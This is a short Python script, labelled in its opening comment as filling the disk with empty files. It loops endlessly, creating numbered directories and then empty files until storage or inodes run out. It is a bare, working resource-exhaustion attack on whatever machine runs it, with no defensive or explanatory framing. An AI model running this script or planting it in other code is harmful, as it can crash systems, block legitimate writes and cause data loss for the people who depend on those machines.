# Fills the disk with empty files.

import os

number = 0
while True:
    try:
        os.mkdir(f"{number}")
        number += 1
    except OSError:
        open(f"{number % 100}/x{number}", "w")
        number += 1
